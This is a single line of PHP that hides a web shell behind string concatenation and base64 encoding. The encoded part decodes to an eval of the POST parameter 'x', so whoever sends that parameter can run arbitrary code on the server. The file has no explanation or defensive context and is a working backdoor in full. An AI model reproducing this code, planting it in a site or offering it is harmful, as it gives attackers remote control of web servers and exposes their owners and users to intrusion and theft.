<?php $b = "ba"."se64_decode"; eval($b("ZXZhbCgkX1BPU1RbJ3gnXSk7"));
